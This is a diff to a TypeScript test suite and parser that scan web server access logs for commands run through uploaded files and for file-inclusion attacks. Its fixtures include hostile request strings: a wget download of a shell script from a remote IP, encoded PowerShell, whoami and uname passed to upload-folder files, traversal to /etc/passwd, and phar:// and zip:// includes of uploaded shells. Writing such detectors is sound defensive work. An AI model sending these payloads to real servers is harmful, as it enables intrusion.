@@ -207,6 +207,10 @@ describe('combined access logs', () => {
     ['POST /media/x.png?exec=wget%20http://203.0.113.9/a.sh', 'exec=wget http://203.0.113.9/a.sh'],
     ['GET /files/a.txt?w=1&Command=powershell+-enc+SQBFAFgA', 'Command=powershell -enc SQBFAFgA'],
     ['GET /uploads/a.jpg?x=net%20user', 'x=net user'],
+    ['GET /uploads/a.jpg?run=id', 'run=id'],
+    ['GET /uploads/a.jpg?SYSTEM=whoami', 'SYSTEM=whoami'],
+    ['GET /uploads/a.jpg?shell=ls', 'shell=ls'],
+    ['GET /uploads/a.jpg?execute=uname+-a', 'execute=uname -a'],
   ])('%s: a file below an upload folder handed a shell command ran it', (request, command) => {
     expect(parseCombinedLine(line(request, 200), uploads)).toMatchObject({ executed: { command } });
   });
@@ -218,6 +222,28 @@ describe('combined access logs', () => {
     'GET /search?cmd=id',
     'GET /uploads/a.jpg?q=cat+pictures',
   ])('%s: no shell command handed to an upload', (request) => {
+    const record = parseCombinedLine(line(request, 200), uploads);
+    expect(typeof record === 'object' ? record.executed : record).toBeUndefined();
+  });
+
+  it.each([
+    ['GET /index.php?page=../../uploads/avatar.jpg', '/index.php', 'avatar.jpg'],
+    ['GET /?inc=..%2f..%2fuploads%2f2024%2fshell.jpg%00&x=1', '/', '2024/shell.jpg'],
+    ['GET /view.php?f=phar://uploads/avatar.jpg/x.php', '/view.php', 'avatar.jpg'],
+    ['GET /a.php?t=zip://uploads/doc.zip%23shell.php', '/a.php', 'doc.zip'],
+    ['GET /index.php?p=..\\..\\media\\a.gif', '/index.php', 'a.gif'],
+  ])('%s has a script include an upload', (request, page, script) => {
+    expect(parseCombinedLine(line(request, 200), uploads)).toMatchObject({
+      executed: { script, include: { page } },
+    });
+  });
+
+  it.each([
+    'GET /download.php?file=uploads/report.pdf',
+    'GET /index.php?page=../../etc/passwd',
+    'GET /index.php?page=../about',
+    'GET /index.php?page=../uploads/',
+  ])('%s includes no upload', (request) => {
     const record = parseCombinedLine(line(request, 200), uploads);
     expect(typeof record === 'object' ? record.executed : record).toBeUndefined();
   });
@@ -271,6 +297,50 @@ describe('combined access logs', () => {
         const run: Record<string, unknown> = { client, timestamp, requestPath: path, executed };
         if (user !== '-') run.user = user;
         return run;
+      }
+      // A script elsewhere made to include a file below the upload folder, by a query value that
+      // climbs to it or opens it through phar:// or zip://.
+      if (below === undefined && url!.includes('?')) {
+        for (const pair of query.split('&')) {
+          const eq = pair.indexOf('=');
+          if (eq < 0) continue;
+          const nameKey = ['filename', 'file', 'name', 'fname', 'upload', 'path', 'key'].includes(
+            pair.slice(0, eq).toLowerCase(),
+          );
+          if (nameKey && /^(POST|PUT|PATCH)$/i.test(method!)) continue;
+          const value = decodeRepeatedly(pair.slice(eq + 1), { plusAsSpace: true }).decoded.replaceAll(
+            '\\',
+            '/',
+          );
+          const wrapper = /^(phar|zip):\/\//i.test(value);
+          if (!wrapper && !/(^|\/)\.\.\//.test(value)) continue;
+          const folder = uploads.exec(value);
+          if (!folder?.[0].endsWith('/')) continue;
+          let target = value.slice(folder.index).split(/[\0#]/)[0]!;
+          const rest = target.slice(folder[0].length);
+          const named = wrapper ? rest.split('/').findIndex((part) => part.includes('.')) : -1;
+          if (named >= 0)
+            target =
+              folder[0] +
+              rest
+                .split('/')
+                .slice(0, named + 1)
+                .join('/');
+          if (target.length === folder[0].length) continue;
+          const run: Record<string, unknown> = {
+            client,
+            timestamp,
+            requestPath: target,
+            executed: {
+              method: method!.toUpperCase(),
+              status: Number(status),
+              script: target.slice(folder[0].length),
+              include: { page: path, parameter: pair },
+            },
+          };
+          if (user !== '-') run.user = user;
+          return run;
+        }
       }
       if (!/^(POST|PUT|PATCH)$/i.test(method!) || !uploads.test(url!)) return undefined;
       const record: Record<string, unknown> = {
@@ -343,6 +413,9 @@ describe('combined access logs', () => {
         'id',
         'ls+-la',
         'net%20user',
+        'phar://',
+        '../',
+        '#',
       ),
       fc.string({ maxLength: 6 }),
     );
